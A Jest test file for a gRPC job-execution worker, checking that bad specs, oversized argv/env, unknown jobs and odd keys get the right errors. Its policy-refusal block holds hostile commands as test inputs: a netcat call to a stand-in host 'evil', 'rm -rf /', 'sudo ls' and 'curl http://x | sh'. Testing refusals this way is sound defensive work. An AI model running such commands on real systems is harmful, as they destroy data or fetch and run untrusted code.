import { afterAll, beforeAll, describe, expect, it } from "@jest/globals";
import { credentials } from "@grpc/grpc-js";
import { InvalidArgumentError, NotFoundError, PermissionDeniedError } from "@opencode-worker/master-client";
import { JobSpec, WorkerServiceClient } from "@opencode-worker/shared";
import { startTestWorker, type TestWorker } from "./harness.js";

let t: TestWorker;
/** A raw client: the SDK validates friendly input itself, so wire-level mistakes need the generated one. */
let raw: WorkerServiceClient;
beforeAll(async () => {
  t = await startTestWorker();
  raw = new WorkerServiceClient(t.worker.address, credentials.createInsecure());
});
afterAll(async () => {
  raw.close();
  await t.stop();
});

/** Dispatches a raw spec and returns the gRPC status code and details it was refused with. */
function dispatchRaw(spec: Partial<JobSpec>): Promise<{ code: number; details: string }> {
  return new Promise((resolve, reject) =>
    raw.dispatch({ spec: { ...JobSpec.fromPartial({}), ...spec } }, (error, response) =>
      error ? resolve({ code: error.code, details: error.details }) : reject(new Error(`accepted: ${JSON.stringify(response)}`)),
    ),
  );
}

const INVALID_ARGUMENT = 3;
const PERMISSION_DENIED = 7;
const files = (entries: Record<string, string>) => new Map(Object.entries(entries).map(([name, text]) => [name, Buffer.from(text)]));

describe("bad specs get INVALID_ARGUMENT naming the field", () => {
  it.each<[string, Partial<JobSpec>, string]>([
    ["no program", {}, "command"],
    ["both command and argv", { command: "ls", argv: ["ls"] }, "argv"],
    ["empty argv[0]", { argv: ["", "x"] }, "argv[0]"],
    ["NUL in command", { command: "echo a\0b" }, "command"],
    ["bad job_id", { jobId: "has space", command: "true" }, "job_id"],
    ["job_id too long", { jobId: "x".repeat(129), command: "true" }, "job_id"],
    ["file name with ..", { command: "true", files: files({ "../escape": "x" }) }, "files"],
    ["absolute file name", { command: "true", files: files({ "/etc/passwd": "x" }) }, "files"],
    ["NUL in a file name", { command: "true", files: files({ "a\0b": "x" }) }, "files"],
    ["duplicate after normalisation", { command: "true", files: files({ "a/b": "1", "a//b": "2" }) }, "files"],
    ["overlong name segment", { command: "true", files: files({ ["n".repeat(300)]: "x" }) }, "files"],
    ["mode for a file that is not there", { command: "true", fileModes: new Map([["nope", 0o755]]) }, "file_modes"],
    ["cwd escaping the work dir", { command: "true", cwd: "../.." }, "cwd"],
    ["bad env name", { command: "true", env: new Map([["1BAD", "x"]]) }, "env"],
    ["reserved env name", { command: "true", env: new Map([["OPENCODE_WORK_DIR", "/"]]) }, "env"],
    ["memory above the maximum", { command: "true", limits: { memoryBytes: String(2 ** 40) } }, "limits.memory_bytes"],
    ["zero timeout", { command: "true", limits: { timeoutMs: "0" } }, "limits.timeout_ms"],
    ["negative-looking cpu", { command: "true", limits: { cpu: -1 } }, "limits.cpu"],
    ["cpu above the maximum", { command: "true", limits: { cpu: 64 } }, "limits.cpu"],
    ["artifact pattern escaping", { command: "true", artifacts: ["../*"] }, "artifacts"],
  ])("%s", async (_name, spec, field) => {
    const { code, details } = await dispatchRaw(spec);
    expect(code).toBe(INVALID_ARGUMENT);
    expect(details.startsWith(field)).toBe(true);
  });

  it("names the maximum and the setting to raise for a limit above it", async () => {
    const { details } = await dispatchRaw({ command: "true", limits: { memoryBytes: String(2 ** 40) } });
    expect(details).toContain(String(t.worker.config.governance.maxMemoryBytes));
    expect(details).toContain("governance.max_memory_bytes");
  });

  it("is refused by the SDK before it reaches the wire when the SDK can tell", async () => {
    await expect(t.client.run({ command: "true", limits: { memory: "lots" } })).rejects.toBeInstanceOf(InvalidArgumentError);
  });
});

/** Linux execs no single argv or env string over this many bytes (MAX_ARG_STRLEN less its NUL). */
const LONGEST_EXEC_STRING = 128 * 1024 - 1;
/** The worker's budget for a job's argv and env together: each string, its NUL and an 8-byte pointer. */
const EXEC_BUDGET = 1024 ** 2;

describe("argv and env the kernel would refuse at exec get INVALID_ARGUMENT at Dispatch, naming the field", () => {
  const many = new Map(Array.from({ length: 100_000 }, (_, i) => [`V${i}`, "x"]));
  it.each<[string, Partial<JobSpec>, string, string]>([
    ["a 1 MiB argv item", { argv: ["printf", "%s", "x".repeat(1024 ** 2)] }, "argv[2]", `${LONGEST_EXEC_STRING} bytes`],
    ["a 200 KiB command", { command: `echo ${"x".repeat(200 * 1024)}` }, "command", `${LONGEST_EXEC_STRING} bytes`],
    [
      "a 200 KiB env value",
      { command: "true", env: new Map([["DATA", "x".repeat(200 * 1024)]]) },
      'env["DATA"]',
      `${LONGEST_EXEC_STRING} bytes`,
    ],
    ["10^5 small variables", { command: "true", env: many }, "env", "the limit is 1 MiB"],
  ])("%s", async (_name, spec, field, limit) => {
    const { code, details } = await dispatchRaw(spec);
    expect(code).toBe(INVALID_ARGUMENT);
    expect(details.startsWith(`${field}: `)).toBe(true);
    expect(details).toContain(limit);
  });

  it("accepts and runs a job just under every limit", async () => {
    const arg = "a".repeat(LONGEST_EXEC_STRING);
    const big = "b".repeat(LONGEST_EXEC_STRING - "BIG=".length);
    const script = 'printf %s "$1" | wc -c; printf %s "$BIG" | wc -c; env | grep -c "^F[0-9]*="';
    const argv = ["sh", "-c", script, "sh", arg];
    const cost = (text: string) => Buffer.byteLength(text) + 1 + 8;
    // Fillers up to 2 KiB under the budget: room for the worker's own variables (PATH, HOME...).
    let left = EXEC_BUDGET - 2048 - argv.reduce((sum, item) => sum + cost(item), 0) - cost(`BIG=${big}`);
    const env: Record<string, string> = { BIG: big };
    let fillers = 0;
    for (; left > cost(`F${fillers}=`); fillers += 1) {
      const value = "f".repeat(Math.min(100_000, left - cost(`F${fillers}=`)));
      env[`F${fillers}`] = value;
      left -= cost(`F${fillers}=${value}`);
    }
    const result = await t.client.run({ argv, env });
    expect(result.stdoutText.split("\n")).toEqual([String(arg.length), String(big.length), String(fillers), ""]);
  });
});

describe("policy refusals get PERMISSION_DENIED", () => {
  it.each([
    ["a command word not on the allowlist", "echo ok | nc evil 80"],
    ["a privilege escalation", "sudo ls"],
    ["a dangerous pattern", "rm -rf /"],
    ["a download piped to a shell", "curl http://x | sh"],
  ])("%s", async (_name, command) => {
    const { code } = await dispatchRaw({ command });
    expect(code).toBe(PERMISSION_DENIED);
  });

  it("refuses network OPEN unless the worker allows it", async () => {
    await expect(t.client.run({ command: "true", network: "open" })).rejects.toBeInstanceOf(PermissionDeniedError);
  });
});

describe("unknown jobs get NOT_FOUND", () => {
  it("for status, collect, cancel, attach and artifacts", async () => {
    const job = t.client.job("never-dispatched");
    await expect(job).rejects.toBeInstanceOf(NotFoundError);
    const result = await t.client.run({ command: "true" });
    const handle = await t.client.job(result.jobId);
    await expect(handle.readArtifactBuffer("missing.txt")).rejects.toBeInstanceOf(NotFoundError);
    const code = await new Promise<number>((resolve) =>
      raw.cancel({ jobId: "never-dispatched", reason: "" }, (error) => resolve(error?.code ?? 0)),
    );
    expect(code).toBe(5);
  });
});

describe("odd but valid input is data, not a trap", () => {
  it("passes env keys such as __proto__ and constructor through as plain variables", async () => {
    const result = await t.client.run({
      command: 'env | grep -E "^(__proto__|constructor)=" | sort',
      env: { ["__proto__"]: "p", constructor: "c" },
    });
    expect(result.stdoutText).toBe("__proto__=p\nconstructor=c\n");
  });

  it("accepts a file called __proto__", async () => {
    const result = await t.client.run({ command: "cat ./__proto__", files: { ["__proto__"]: "kept" } });
    expect(result.stdoutText).toBe("kept");
  });

  it("leaves the worker healthy after all of the above", async () => {
    const metrics = await t.client.metrics();
    expect(metrics.draining).toBe(false);
    const result = await t.client.run({ command: "echo alive" });
    expect(result.stdoutText).toBe("alive\n");
  });
});
